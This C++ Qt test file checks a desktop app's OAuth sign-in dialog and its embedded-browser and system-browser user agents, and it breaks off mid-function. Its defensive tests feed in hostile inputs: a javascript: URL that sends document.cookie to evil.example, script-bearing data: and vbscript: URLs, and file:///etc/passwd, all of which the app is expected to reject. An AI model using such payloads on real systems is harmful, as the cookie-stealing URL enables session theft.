// The sign-in dialog and the desktop user agents, offscreen with the real QtWebEngine (requirements UI-3, UI-6;
// requirements UI-3, AUTH-29, SEC-3). Fake authorization-server pages come from LoopbackHttpServer; the redirect target
// is a live server too, so a code that slipped past the embedded page would be recorded there. The system
// browser is a QNetworkAccessManager that follows redirects, as a browser would, to the loopback catcher.

#include "auth/useragent.h"
#include "common/error.h"
#include "loopbackhttpserver.h"
#include "net/urlpolicy.h"
#include "screenshot.h"
#include "signin/signindialog.h"
#include "signin/systembrowseruseragent.h"
#include "signin/webengineuseragent.h"

#include <QApplication>
#include <QClipboard>
#include <QDir>
#include <QFile>
#include <QHostAddress>
#include <QLabel>
#include <QNetworkAccessManager>
#include <QNetworkReply>
#include <QNetworkRequest>
#include <QPushButton>
#include <QSignalSpy>
#include <QSslCertificate>
#include <QSslKey>
#include <QTcpServer>
#include <QTest>
#include <QUrlQuery>
#include <QWebEnginePage>
#include <QWebEngineView>

#include <memory>
#include <optional>

using namespace portico;
using portico::testing::HttpRequest;
using portico::testing::HttpResponse;
using portico::testing::LoopbackHttpServer;

namespace {

constexpr int kPageTimeout = 30000;

QByteArray readFile(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// The authorization response as the AS would send it (RFC 6749 §4.1.2; iss per RFC 9207).
QUrl callbackFor(const QUrl &redirectUri, const QString &code, const QString &state)
{
    QUrl url = redirectUri;
    QUrlQuery query;
    query.addQueryItem(QStringLiteral("code"), code);
    query.addQueryItem(QStringLiteral("state"), state);
    query.addQueryItem(QStringLiteral("iss"), QStringLiteral("http://127.0.0.1"));
    url.setQuery(query);
    return url;
}

// What a UserAgent reported through its CallbackDone, and how often.
struct Outcome
{
    std::optional<Result<QUrl>> result;
    int calls = 0;

    UserAgent::CallbackDone callback()
    {
        return [this](Result<QUrl> r) {
            ++calls;
            result.emplace(std::move(r));
        };
    }
    // For failure messages (QVERIFY2 evaluates its message even when the check passes).
    [[nodiscard]] QString describe() const
    {
        if (!result)
            return QStringLiteral("no result");
        return result->ok() ? QStringLiteral("ok") : result->error().toString();
    }
    [[nodiscard]] bool isError(ErrorCode code) const
    {
        return result && !result->ok() && result->error().code() == code;
    }
};

// What SignInDialog::failed reported (Error has no default constructor, so no QSignalSpy/QVariant).
struct FailureRecorder
{
    explicit FailureRecorder(SignInDialog *dialog)
    {
        QObject::connect(dialog, &SignInDialog::failed, dialog, [this](const Error &e) {
            ++count;
            error.emplace(e);
        });
    }
    std::optional<Error> error;
    int count = 0;
};

} // namespace

class TestSignInDialog : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void init();
    void cleanup();

    // SignInDialog on its own
    void catchesRedirectWithoutContactingTarget_data();
    void catchesRedirectWithoutContactingTarget();
    void showsOriginAndConnectionOfEveryPage();
    void stepUpBannerListsExactlyTheNewScopes();
    void noStepUpBannerForFirstSignIn();
    void certificateErrorFailsClosed();
    void popupOpensInSystemBrowserNotInPortico();
    void pageRefusingEmbeddedBrowsersSwitchesToSystemBrowser();
    void copyLinkPutsAuthorizationUrlOnClipboard();
    void unsafeAuthorizationUrlIsNotLoaded();

    // WebEngineUserAgent
    void webEngineAgentRedirectUriBindsNothing();
    void webEngineAgentDeliversCaughtCallback();
    void closingDialogCancels();
    void webEngineAgentReportsCertificateError();
    void continueInSystemBrowserHandsSameFlowToLoopbackCatcher();
    void continueInSystemBrowserFailsWhenPortIsTaken();
    void preferSystemBrowserSkipsDialog();
    void webEngineAgentRefusesUnsafeUrlWithoutDialog();

    // SystemBrowserUserAgent
    void systemBrowserAgentDeliversCallbackFromBrowser();
    void systemBrowserAgentIgnoresForgedCallback();
    void systemBrowserAgentRefusesUnsafeUrl_data();
    void systemBrowserAgentRefusesUnsafeUrl();

private:
    UserAgent::Prompt prompt(const QUrl &authorizationUrl, const QUrl &redirectUri) const;
    // The dialog under test, shown, with spies ready before it starts loading.
    SignInDialog *openDialog(const UserAgent::Prompt &prompt);
    // A fake system browser: records the URL and GETs it, following redirects to the catcher.
    std::function<bool(const QUrl &)> browserOpener();
    // /authorize answers with a 302 to `callback`.
    void routeRedirect(LoopbackHttpServer &server, const QUrl &callback);

    std::unique_ptr<LoopbackHttpServer> m_authorizationServer;
    std::unique_ptr<LoopbackHttpServer> m_redirectTarget;
    std::unique_ptr<SignInDialog> m_dialog;
    std::unique_ptr<QNetworkAccessManager> m_browser;
    QList<QUrl> m_opened;
};

void TestSignInDialog::init()
{
    m_authorizationServer = std::make_unique<LoopbackHttpServer>();
    m_redirectTarget = std::make_unique<LoopbackHttpServer>();
    QVERIFY(m_authorizationServer->listen());
    QVERIFY(m_redirectTarget->listen());
    // The redirect target answers normally, so any request that reached it would succeed and be recorded.
    m_redirectTarget->route("GET", "/callback", [](const HttpRequest &) {
        return HttpResponse::html("<html><body>callback reached</body></html>");
    });
    m_browser = std::make_unique<QNetworkAccessManager>();
    m_opened.clear();
}

void TestSignInDialog::cleanup()
{
    m_dialog.reset();
    // Dialogs the user agents closed delete themselves later (WA_DeleteOnClose): let that happen while the
    // servers still exist.
    QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
    m_browser.reset();
    m_authorizationServer.reset();
    m_redirectTarget.reset();
}

UserAgent::Prompt TestSignInDialog::prompt(const QUrl &authorizationUrl, const QUrl &redirectUri) const
{
    UserAgent::Prompt p;
    p.authorizationUrl = authorizationUrl;
    p.redirectUri = redirectUri;
    p.serverName = QStringLiteral("Example Files");
    p.issuer = m_authorizationServer->url(QString()).toString();
    p.requestedScopes = {QStringLiteral("files:read")};
    return p;
}

SignInDialog *TestSignInDialog::openDialog(const UserAgent::Prompt &p)
{
    m_dialog = std::make_unique<SignInDialog>(p);
    m_dialog->setUrlOpener(browserOpener());
    m_dialog->show(); // loading starts from the event loop, after the spies are connected
    return m_dialog.get();
}

std::function<bool(const QUrl &)> TestSignInDialog::browserOpener()
{
    return [this](const QUrl &url) {
        m_opened.append(url);
        if (url.scheme() == QLatin1StringView("http")) {
            QNetworkReply *reply = m_browser->get(QNetworkRequest(url)); // follows redirects, as browsers do
            connect(reply, &QNetworkReply::finished, reply, &QObject::deleteLater);
        }
        return true;
    };
}

void TestSignInDialog::routeRedirect(LoopbackHttpServer &server, const QUrl &callback)
{
    server.route("GET", "/authorize",
                 [callback](const HttpRequest &) { return HttpResponse::redirect(callback, 302); });
}

// --- SignInDialog ---------------------------------------------------------------------------------------

void TestSignInDialog::catchesRedirectWithoutContactingTarget_data()
{
    QTest::addColumn<QByteArray>("how");
    QTest::newRow("server 302") << QByteArray("302");
    QTest::newRow("script navigation") << QByteArray("script");
    QTest::newRow("form submission") << QByteArray("form");
}

void TestSignInDialog::catchesRedirectWithoutContactingTarget()
{
    // Requirements UI-3 / RFC 8252 §7.3: the redirect is caught in-process, so the code never reaches the network.
    QFETCH(QByteArray, how);
    const QUrl redirectUri = m_redirectTarget->url(QStringLiteral("/callback"));
    const QUrl callback = callbackFor(redirectUri, QStringLiteral("c0de-1"), QStringLiteral("st4te"));
    if (how == "302") {
        routeRedirect(*m_authorizationServer, callback);
    } else {
        const QByteArray page =
            how == "script"
                ? QByteArray("<html><body><script>location.href='" + callback.toEncoded() + "';</script></body></html>")
                : QByteArray(
                    "<html><body><form id='f' method='get' action='" + redirectUri.toEncoded()
                    + "'><input type='hidden' name='code' value='c0de-1'><input type='hidden' name='state' "
                      "value='st4te'></form><script>document.getElementById('f').submit();</script></body></html>");
        m_authorizationServer->route("GET", "/authorize",
                                     [page](const HttpRequest &) { return HttpResponse::html(page); });
    }

    SignInDialog *dialog = openDialog(prompt(m_authorizationServer->url(QStringLiteral("/authorize")), redirectUri));
    QSignalSpy caught(dialog, &SignInDialog::callbackCaught);
    int failures = 0;
    connect(dialog, &SignInDialog::failed, this, [&failures](const Error &) { ++failures; });
    QVERIFY(caught.wait(kPageTimeout));
    const QUrlQuery query(caught.constFirst().constFirst().toUrl());
    QCOMPARE(query.queryItemValue(QStringLiteral("code")), QStringLiteral("c0de-1"));
    QCOMPARE(query.queryItemValue(QStringLiteral("state")), QStringLiteral("st4te"));
    QCOMPARE(m_authorizationServer->requests().size(), 1);

    // Give a stray request time to arrive: the redirect target must still have seen none.
    QTest::qWait(500);
    QCOMPARE(m_redirectTarget->requests().size(), 0);
    QCOMPARE(caught.size(), 1);
    QCOMPARE(failures, 0);
}

void TestSignInDialog::showsOriginAndConnectionOfEveryPage()
{
    // Requirements UI-3: the origin and TLS state are always visible and follow every navigation.
    LoopbackHttpServer otherSite;
    QVERIFY(otherSite.listen());
    otherSite.route("GET", "/login", [](const HttpRequest &) {
        return HttpResponse::html("<html><head><title>Identity provider</title></head><body>login</body></html>");
    });
    m_authorizationServer->route("GET", "/authorize", [](const HttpRequest &) {
        return HttpResponse::html("<html><head><title>Authorize</title></head><body>authorize</body></html>");
    });

    SignInDialog *dialog = openDialog(prompt(m_authorizationServer->url(QStringLiteral("/authorize")),
                                             m_redirectTarget->url(QStringLiteral("/callback"))));
    QSignalSpy loaded(dialog->view()->page(), &QWebEnginePage::loadFinished);
    QVERIFY(loaded.wait(kPageTimeout));
    const QString first = QStringLiteral("http://127.0.0.1:%1").arg(m_authorizationServer->port());
    QVERIFY2(dialog->originText().startsWith(first), qPrintable(dialog->originText()));
    QVERIFY2(dialog->originText().contains(QStringLiteral("not encrypted (local)")), qPrintable(dialog->originText()));
    QVERIFY(!dialog->originText().contains(QStringLiteral("/authorize")));

    // The page moves to another site (as an AS handing over to an identity provider does): the line follows.
    loaded.clear();
    dialog->view()->page()->runJavaScript(
        QStringLiteral("location.href = '%1';").arg(otherSite.url(QStringLiteral("/login")).toString()));
    QVERIFY(loaded.wait(kPageTimeout));
    const QString second = QStringLiteral("http://127.0.0.1:%1").arg(otherSite.port());
    QTRY_VERIFY2_WITH_TIMEOUT(dialog->originText().startsWith(second), qPrintable(dialog->originText()), 5000);
    QCOMPARE(otherSite.requests().size(), 1);
}

void TestSignInDialog::stepUpBannerListsExactlyTheNewScopes()
{
    // Requirements UI-6, AUTH-39: before consenting again, the person sees exactly which scopes are new.
    m_authorizationServer->route("GET", "/authorize", [](const HttpRequest &) {
        return HttpResponse::html("<html><head><title>Consent</title></head><body><h1>Example AS</h1>"
                                  "<p>Example Files wants more access.</p><button>Allow</button></body></html>");
    });
    UserAgent::Prompt p = prompt(m_authorizationServer->url(QStringLiteral("/authorize")),
                                 m_redirectTarget->url(QStringLiteral("/callback")));
    p.requestedScopes = {QStringLiteral("files:read"), QStringLiteral("files:write"), QStringLiteral("files:share")};
    p.newScopes = {QStringLiteral("files:write"), QStringLiteral("files:share")};
    SignInDialog *dialog = openDialog(p);
    auto *banner = dialog->findChild<QLabel *>(QStringLiteral("stepUpBanner"));
    QVERIFY(banner);
    QVERIFY(banner->isVisible());
    QCOMPARE(dialog->stepUpText(), QStringLiteral("Example Files asks for more access: files:write, files:share"));
    QVERIFY(!banner->text().contains(QStringLiteral("files:read"))); // held already: not "more"

    QSignalSpy loaded(dialog->view()->page(), &QWebEnginePage::loadFinished);
    QVERIFY(loaded.wait(kPageTimeout));
    QTest::qWait(200); // let the page paint before the screenshot
    testing::saveScreenshot(*dialog, QStringLiteral("signindialog.png"));
}

void TestSignInDialog::noStepUpBannerForFirstSignIn()
{
    SignInDialog *dialog = openDialog(prompt(m_authorizationServer->url(QStringLiteral("/authorize")),
                                             m_redirectTarget->url(QStringLiteral("/callback"))));
    auto *banner = dialog->findChild<QLabel *>(QStringLiteral("stepUpBanner"));
    QVERIFY(banner);
    QVERIFY(!banner->isVisible());
    QVERIFY(dialog->stepUpText().isEmpty());
}

void TestSignInDialog::certificateErrorFailsClosed()
{
    // Requirements UI-3 / docs/architecture.md, "Security rules": WebEngine does not trust the test certificate; the
    // dialog must reject it (no override), report TlsFailure, and the page — which would redirect with a code — never
    // runs.
    const QList<QSslCertificate> certificates =
        QSslCertificate::fromData(readFile(QFINDTESTDATA("../data/tls/loopback-cert.pem")), QSsl::Pem);
    QVERIFY(!certificates.isEmpty());
    const QSslKey key(readFile(QFINDTESTDATA("../data/tls/loopback-key.pem")), QSsl::Ec, QSsl::Pem, QSsl::PrivateKey);
    QVERIFY(!key.isNull());
    LoopbackHttpServer tlsServer;
    QVERIFY(tlsServer.listenTls(certificates.constFirst(), key));
    const QUrl redirectUri = m_redirectTarget->url(QStringLiteral("/callback"));
    routeRedirect(tlsServer, callbackFor(redirectUri, QStringLiteral("tls-code"), QStringLiteral("s")));

    SignInDialog *dialog = openDialog(prompt(tlsServer.url(QStringLiteral("/authorize")), redirectUri));
    FailureRecorder failed(dialog);
    QSignalSpy caught(dialog, &SignInDialog::callbackCaught);
    QTRY_VERIFY_WITH_TIMEOUT(failed.error.has_value(), kPageTimeout);
    QCOMPARE(failed.error->code(), ErrorCode::TlsFailure);
    QVERIFY(!failed.error->toString().contains(QStringLiteral("tls-code")));

    // The explanation replaces the page, the origin line says what happened, no way around it is offered.
    auto *message = dialog->findChild<QLabel *>(QStringLiteral("messagePane"));
    QVERIFY(message && message->isVisible());
    QVERIFY2(message->text().contains(QStringLiteral("cannot be trusted")), qPrintable(message->text()));
    QVERIFY2(dialog->originText().startsWith(QStringLiteral("https://127.0.0.1:%1").arg(tlsServer.port())),
             qPrintable(dialog->originText()));
    QVERIFY(dialog->originText().contains(QStringLiteral("not trusted")));
    QVERIFY(!dialog->findChild<QPushButton *>(QStringLiteral("systemBrowserButton"))->isEnabled());

    QTest::qWait(500);
    QCOMPARE(caught.size(), 0);
    QCOMPARE(tlsServer.requests().size(), 0); // nothing was sent over the untrusted connection
    QCOMPARE(m_redirectTarget->requests().size(), 0);
    QCOMPARE(failed.count, 1);
}

void TestSignInDialog::popupOpensInSystemBrowserNotInPortico()
{
    // Requirements UI-3: new windows never open inside Portico; their address goes to the system browser.
    const QUrl help(QStringLiteral("https://help.example.com/signing-in"));
    const QByteArray page = "<html><body><script>window.open('" + help.toEncoded() + "');</script></body></html>";
    m_authorizationServer->route("GET", "/authorize", [page](const HttpRequest &) { return HttpResponse::html(page); });
    SignInDialog *dialog = openDialog(prompt(m_authorizationServer->url(QStringLiteral("/authorize")),
                                             m_redirectTarget->url(QStringLiteral("/callback"))));
    QTRY_COMPARE_WITH_TIMEOUT(m_opened.size(), 1, kPageTimeout);
    QCOMPARE(m_opened.constFirst(), help);
    QCOMPARE(dialog->view()->page()->url().path(), QStringLiteral("/authorize")); // the sign-in page stays
    const QList<QWebEngineView *> views = dialog->findChildren<QWebEngineView *>();
    QCOMPARE(views.size(), 1);
}

void TestSignInDialog::pageRefusingEmbeddedBrowsersSwitchesToSystemBrowser()
{
    // Requirements UI-3: Google answers embedded browsers with "Error 403: disallowed_useragent".
    m_authorizationServer->route("GET", "/authorize", [](const HttpRequest &) {
        return HttpResponse::html("<html><head><title>Error 403: disallowed_useragent</title></head>"
                                  "<body>This browser or app may not be secure.</body></html>");
    });
    SignInDialog *dialog = openDialog(prompt(m_authorizationServer->url(QStringLiteral("/authorize")),
                                             m_redirectTarget->url(QStringLiteral("/callback"))));
    QSignalSpy switched(dialog, &SignInDialog::continueInSystemBrowserRequested);
    QVERIFY(switched.wait(kPageTimeout));
    QTest::qWait(200);
    QCOMPARE(switched.size(), 1);
}

void TestSignInDialog::copyLinkPutsAuthorizationUrlOnClipboard()
{
    QApplication::clipboard()->clear();
    const QUrl authorizationUrl = m_authorizationServer->url(QStringLiteral("/authorize?client_id=abc&state=xyz"));
    SignInDialog *dialog = openDialog(prompt(authorizationUrl, m_redirectTarget->url(QStringLiteral("/callback"))));
    auto *copy = dialog->findChild<QPushButton *>(QStringLiteral("copyLinkButton"));
    QVERIFY(copy);
    QVERIFY(!copy->accessibleName().isEmpty());
    QTest::mouseClick(copy, Qt::LeftButton);
    QCOMPARE(QApplication::clipboard()->text(), authorizationUrl.toString(QUrl::FullyEncoded));
}

void TestSignInDialog::unsafeAuthorizationUrlIsNotLoaded()
{
    // Requirements SEC-3: javascript: never reaches the page.
    SignInDialog *dialog = openDialog(
        prompt(QUrl(QStringLiteral("javascript:alert(1)")), m_redirectTarget->url(QStringLiteral("/callback"))));
    FailureRecorder failed(dialog);
    QTRY_VERIFY_WITH_TIMEOUT(failed.error.has_value(), 5000);
    QCOMPARE(failed.error->code(), ErrorCode::UrlRejected);
    QVERIFY(dialog->view()->page()->url().isEmpty());
}

// --- WebEngineUserAgent ---------------------------------------------------------------------------------

void TestSignInDialog::webEngineAgentRedirectUriBindsNothing()
{
    // The embedded page catches the redirect in-process: no listener, and the registered port is kept
    // (requirements AUTH-20).
    WebEngineUserAgent agent;
    const Result<QUrl> chosen = agent.prepareRedirect(0);
    QVERIFY(chosen.ok());
    QCOMPARE(chosen.value().scheme(), QStringLiteral("http"));
    QCOMPARE(chosen.value().host(), QStringLiteral("127.0.0.1"));
    QCOMPARE(chosen.value().path(), QStringLiteral("/callback"));
    QTcpServer probe;
    QVERIFY2(probe.listen(QHostAddress::LocalHost, static_cast<quint16>(chosen.value().port())),
             "the embedded path must not hold the port");
    probe.close();

    const Result<QUrl> kept = agent.prepareRedirect(m_redirectTarget->port()); // busy, and that is fine
    QVERIFY(kept.ok());
    QCOMPARE(kept.value().port(), int(m_redirectTarget->port()));
    QVERIFY(agent.currentDialog() == nullptr); // nothing of WebEngine exists before authorize()
}

void TestSignInDialog::webEngineAgentDeliversCaughtCallback()
{
    WebEngineUserAgent agent;
    const Result<QUrl> redirect = agent.prepareRedirect(m_redirectTarget->port());
    QVERIFY(redirect.ok());
    routeRedirect(*m_authorizationServer,
                  callbackFor(redirect.value(), QStringLiteral("e2e-code"), QStringLiteral("e2e")));
    QSignalSpy shown(&agent, &WebEngineUserAgent::dialogShown);
    Outcome outcome;
    agent.authorize(prompt(m_authorizationServer->url(QStringLiteral("/authorize")), redirect.value()), this,
                    outcome.callback());
    QCOMPARE(outcome.calls, 0); // never synchronously
    QCOMPARE(shown.size(), 1);
    QPointer<SignInDialog> dialog = agent.currentDialog();
    QVERIFY(dialog && dialog->isVisible());

    QTRY_VERIFY_WITH_TIMEOUT(outcome.result.has_value(), kPageTimeout);
    QVERIFY2(outcome.result->ok(), qPrintable(outcome.describe()));
    QCOMPARE(QUrlQuery(outcome.result->value()).queryItemValue(QStringLiteral("code")), QStringLiteral("e2e-code"));
    QCOMPARE(QUrlQuery(outcome.result->value()).queryItemValue(QStringLiteral("state")), QStringLiteral("e2e"));
    QTRY_VERIFY(dialog.isNull()); // the dialog closed and went away
    QTest::qWait(300);
    QCOMPARE(outcome.calls, 1);
    QCOMPARE(m_redirectTarget->requests().size(), 0);
}

void TestSignInDialog::closingDialogCancels()
{
    m_authorizationServer->route(
        "GET", "/authorize", [](const HttpRequest &) { return HttpResponse::html("<html><body>login</body></html>"); });
    WebEngineUserAgent agent;
    const Result<QUrl> redirect = agent.prepareRedirect(0);
    QVERIFY(redirect.ok());
    Outcome outcome;
    agent.authorize(prompt(m_authorizationServer->url(QStringLiteral("/authorize")), redirect.value()), this,
                    outcome.callback());
    SignInDialog *dialog = agent.currentDialog();
    QVERIFY(dialog);
    QSignalSpy loaded(dialog->view()->page(), &QWebEnginePage::loadFinished);
    QVERIFY(loaded.wait(kPageTimeout));
    auto *cancel = dialog->findChild<QPushButton *>(QStringLiteral("cancelButton"));
    QVERIFY(cancel);
    cancel->setFocus();
    QTest::keyClick(cancel, Qt::Key_Escape); // Escape closes a dialog
    QTRY_VERIFY(outcome.result.has_value());
    QVERIFY(outcome.isError(ErrorCode::Cancelled));
    QTest::qWait(200);
    QCOMPARE(outcome.calls, 1);
    agent.cancel(); // nothing left to cancel: no second report
    QTest::qWait(100);
    QCOMPARE(outcome.calls, 1);
}

void TestSignInDialog::webEngineAgentReportsCertificateError()
{
    const QList<QSslCertificate> certificates =
        QSslCertificate::fromData(readFile(QFINDTESTDATA("../data/tls/loopback-cert.pem")), QSsl::Pem);
    const QSslKey key(readFile(QFINDTESTDATA("../data/tls/loopback-key.pem")), QSsl::Ec, QSsl::Pem, QSsl::PrivateKey);
    QVERIFY(!certificates.isEmpty() && !key.isNull());
    LoopbackHttpServer tlsServer;
    QVERIFY(tlsServer.listenTls(certificates.constFirst(), key));
    WebEngineUserAgent agent;
    const Result<QUrl> redirect = agent.prepareRedirect(m_redirectTarget->port());
    QVERIFY(redirect.ok());
    routeRedirect(tlsServer, callbackFor(redirect.value(), QStringLiteral("x"), QStringLiteral("y")));
    Outcome outcome;
    agent.authorize(prompt(tlsServer.url(QStringLiteral("/authorize")), redirect.value()), this, outcome.callback());
    QTRY_VERIFY_WITH_TIMEOUT(outcome.result.has_value(), kPageTimeout);
    QVERIFY(outcome.isError(ErrorCode::TlsFailure));
    // The dialog stays to explain; closing it afterwards reports nothing more.
    QVERIFY(agent.currentDialog() && agent.currentDialog()->isVisible());
    testing::saveScreenshot(*agent.currentDialog(), QStringLiteral("signindialog-certificate-error.png"));
    agent.currentDialog()->reject();
    QTest::qWait(200);
    QCOMPARE(outcome.calls, 1);
    QCOMPARE(tlsServer.requests().size(), 0);
    QCOMPARE(m_redirectTarget->requests().size(), 0);
}

void TestSignInDialog::continueInSystemBrowserHandsSameFlowToLoopbackCatcher()
{
    // Requirements UI-3 / RFC 8252 §7.3: the same authorization URL (same state, same redirect URI) goes to the
    // browser, and a listener on the redirect URI's port receives the redirect.
    WebEngineUserAgent agent;
    agent.setUrlOpener(browserOpener());
    const Result<QUrl> redirect = agent.prepareRedirect(0);
    QVERIFY(redirect.ok());
    const QUrl callback = callbackFor(redirect.value(), QStringLiteral("browser-code"), QStringLiteral("same-state"));
    int authorizeRequests = 0;
    m_authorizationServer->route("GET", "/authorize", [&authorizeRequests, callback](const HttpRequest &) {
        // The embedded page gets a login form; the browser (already signed in there) is sent straight back.
        return ++authorizeRequests == 1 ? HttpResponse::html("<html><body>login</body></html>")
                                        : HttpResponse::redirect(callback, 302);
    });
    const QUrl authorizationUrl = m_authorizationServer->url(QStringLiteral("/authorize?state=same-state"));
    Outcome outcome;
    agent.authorize(prompt(authorizationUrl, redirect.value()), this, outcome.callback());
    QPointer<SignInDialog> dialog = agent.currentDialog();
    QVERIFY(dialog);
    QSignalSpy loaded(dialog->view()->page(), &QWebEnginePage::loadFinished);
    QVERIFY(loaded.wait(kPageTimeout));

    auto *button = dialog->findChild<QPushButton *>(QStringLiteral("systemBrowserButton"));
    QVERIFY(button);
    QTest::mouseClick(button, Qt::LeftButton);
    QTRY_VERIFY_WITH_TIMEOUT(outcome.result.has_value(), kPageTimeout);
    QVERIFY2(outcome.result->ok(), qPrintable(outcome.describe()));
    QCOMPARE(outcome.result->value().port(), redirect.value().port());
    QCOMPARE(QUrlQuery(outcome.result->value()).queryItemValue(QStringLiteral("code")), QStringLiteral("browser-code"));
    QCOMPARE(m_opened, QList<QUrl>{authorizationUrl}); // the very same URL
    QCOMPARE(authorizeRequests, 2);
    QTRY_VERIFY(dialog.isNull());
    QTest::qWait(200);
    QCOMPARE(outcome.calls, 1);
}

void TestSignInDialog::continueInSystemBrowserFailsWhenPortIsTaken()
{
    WebEngineUserAgent agent;
    agent.setUrlOpener(browserOpener());
    // The redirect URI names a port another program (the redirect target here) already listens on.
    const Result<QUrl> redirect = agent.prepareRedirect(m_redirectTarget->port());
    QVERIFY(redirect.ok());
    m_authorizationServer->route(
        "GET", "/authorize", [](const HttpRequest &) { return HttpResponse::html("<html><body>login</body></html>"); });
    Outcome outcome;
    agent.authorize(prompt(m_authorizationServer->url(QStringLiteral("/authorize")), redirect.value()), this,
                    outcome.callback());
    QVERIFY(agent.currentDialog());
    Q_EMIT agent.currentDialog()->continueInSystemBrowserRequested();
    QTRY_VERIFY_WITH_TIMEOUT(outcome.result.has_value(), 5000);
    QVERIFY(outcome.isError(ErrorCode::NetworkFailure));
    QVERIFY2(outcome.result->error().message().contains(QString::number(m_redirectTarget->port())),
             qPrintable(outcome.result->error().message()));
    QVERIFY(outcome.result->error().message().contains(QStringLiteral("again")));
    QVERIFY(m_opened.isEmpty()); // no browser was opened toward a port someone else holds
    QCOMPARE(m_redirectTarget->requests().size(), 0);
}

void TestSignInDialog::preferSystemBrowserSkipsDialog()
{
    WebEngineUserAgent agent;
    agent.setUrlOpener(browserOpener());
    agent.setPreferSystemBrowser(true);
    QSignalSpy shown(&agent, &WebEngineUserAgent::dialogShown);
    const Result<QUrl> redirect = agent.prepareRedirect(0);
    QVERIFY(redirect.ok());
    QTcpServer probe; // the catcher holds the port now
    QVERIFY(!probe.listen(QHostAddress::LocalHost, static_cast<quint16>(redirect.value().port())));
    routeRedirect(*m_authorizationServer,
                  callbackFor(redirect.value(), QStringLiteral("pref-code"), QStringLiteral("p")));
    Outcome outcome;
    agent.authorize(prompt(m_authorizationServer->url(QStringLiteral("/authorize?state=p")), redirect.value()), this,
                    outcome.callback());
    QTRY_VERIFY_WITH_TIMEOUT(outcome.result.has_value(), kPageTimeout);
    QVERIFY2(outcome.result->ok(), qPrintable(outcome.describe()));
    QCOMPARE(QUrlQuery(outcome.result->value()).queryItemValue(QStringLiteral("code")), QStringLiteral("pref-code"));
    QCOMPARE(shown.size(), 0);
    QVERIFY(agent.currentDialog() == nullptr);
    QCOMPARE(m_opened.size(), 1);
}

void TestSignInDialog::webEngineAgentRefusesUnsafeUrlWithoutDialog()
{
    WebEngineUserAgent agent;
    agent.setUrlOpener(browserOpener());
    QSignalSpy shown(&agent, &WebEngineUserAgent::dialogShown);
    const Result<QUrl> redirect = agent.prepareRedirect(0);
    QVERIFY(redirect.ok());
    Outcome outcome;
    agent.authorize(
        prompt(QUrl(QStringLiteral("javascript:fetch('https://evil.example/'+document.cookie)")), redirect.value()),
        this, outcome.callback());
    QTRY_VERIFY(outcome.result.has_value());
    QVERIFY(outcome.isError(ErrorCode::UrlRejected));
    QCOMPARE(shown.size(), 0);
    QVERIFY(m_opened.isEmpty());
}

// --- SystemBrowserUserAgent ------------------------------------------------------------------------------

void TestSignInDialog::systemBrowserAgentDeliversCallbackFromBrowser()
{
    // Requirements AUTH-29: the browser's redirect reaches the loopback catcher, which hands the URL to the flow.
    SystemBrowserUserAgent agent;
    agent.setUrlOpener(browserOpener());
    const Result<QUrl> redirect = agent.prepareRedirect(0);
    QVERIFY(redirect.ok());
    QCOMPARE(redirect.value().host(), QStringLiteral("127.0.0.1"));
    routeRedirect(*m_authorizationServer,
                  callbackFor(redirect.value(), QStringLiteral("sys-code"), QStringLiteral("sys")));
    const QUrl authorizationUrl = m_authorizationServer->url(QStringLiteral("/authorize?state=sys"));
    Outcome outcome;
    agent.authorize(prompt(authorizationUrl, redirect.value()), this, outcome.callback());
    QCOMPARE(outcome.calls, 0);
    QTRY_VERIFY_WITH_TIMEOUT(outcome.result.has_value(), kPageTimeout);
    QVERIFY2(outcome.result->ok(), qPrintable(outcome.describe()));
    QCOMPARE(QUrlQuery(outcome.result->value()).queryItemValue(QStringLiteral("code")), QStringLiteral("sys-code"));
    QCOMPARE(QUrlQuery(outcome.result->value()).queryItemValue(QStringLiteral("state")), QStringLiteral("sys"));
    QCOMPARE(m_opened, QList<QUrl>{authorizationUrl});
    QCOMPARE(m_authorizationServer->requests().size(), 1);
    QTest::qWait(200);
    QCOMPARE(outcome.calls, 1);
}

void TestSignInDialog::systemBrowserAgentIgnoresForgedCallback()
{
    // RFC 8252 §8.3, requirements SEC-7, ATTACK-4: while the person signs in, another local process sends a forged
    // redirect to the listener. It is refused, and the browser's real redirect completes the sign-in.
    SystemBrowserUserAgent agent;
    QList<QUrl> opened;
    agent.setUrlOpener([&opened](const QUrl &url) {
        opened.append(url); // the person is still signing in
        return true;
    });
    const Result<QUrl> redirect = agent.prepareRedirect(0);
    QVERIFY(redirect.ok());
    Outcome outcome;
    agent.authorize(prompt(m_authorizationServer->url(QStringLiteral("/authorize?state=real")), redirect.value()), this,
                    outcome.callback());
    QCOMPARE(opened.size(), 1);

    const auto visit = [this](const QUrl &url) {
        QNetworkReply *reply = m_browser->get(QNetworkRequest(url));
        QSignalSpy finished(reply, &QNetworkReply::finished);
        const bool done = finished.wait(kPageTimeout);
        const int status = reply->attribute(QNetworkRequest::HttpStatusCodeAttribute).toInt();
        reply->deleteLater();
        return done ? status : -1;
    };
    QCOMPARE(visit(callbackFor(redirect.value(), QStringLiteral("forged-code"), QStringLiteral("forged"))), 400);
    QTest::qWait(100);
    QCOMPARE(outcome.calls, 0);

    QCOMPARE(visit(callbackFor(redirect.value(), QStringLiteral("real-code"), QStringLiteral("real"))), 200);
    QTRY_VERIFY_WITH_TIMEOUT(outcome.result.has_value(), kPageTimeout);
    QVERIFY2(outcome.result->ok(), qPrintable(outcome.describe()));
    QCOMPARE(QUrlQuery(outcome.result->value()).queryItemValue(QStringLiteral("code")), QStringLiteral("real-code"));
}

void TestSignInDialog::systemBrowserAgentRefusesUnsafeUrl_data()
{
    QTest::addColumn<QString>("url");
    QTest::newRow("javascript") << QStringLiteral("javascript:alert(document.domain)");
    QTest::newRow("data") << QStringLiteral("data:text/html,<script>alert(1)</script>");
    QTest::newRow("file") << QStringLiteral("file:///etc/passwd");
    QTest::newRow("vbscript") << QStringLiteral("vbscript:msgbox(1)");
    QTest::newRow("http to a remote host") << QStringLiteral("http://as.example.com/authorize");
}

void TestSignInDialog::systemBrowserAgentRefusesUnsafeUrl()
{
    // Requirements SEC-3: only https (http to loopback) is ever handed to the browser; everything else opens nothing.
    QFETCH(QString, url);
    SystemBrowserUserAgent systemBrowser;
    systemBrowser.setUrlOpener(browserOpener());
    LoopbackUserAgent &agent = systemBrowser; // the check is the base's, shared with HeadlessUserAgent
    const Result<QUrl> redirect = agent.prepareRedirect(0);
    QVERIFY(redirect.ok());
    Outcome outcome;
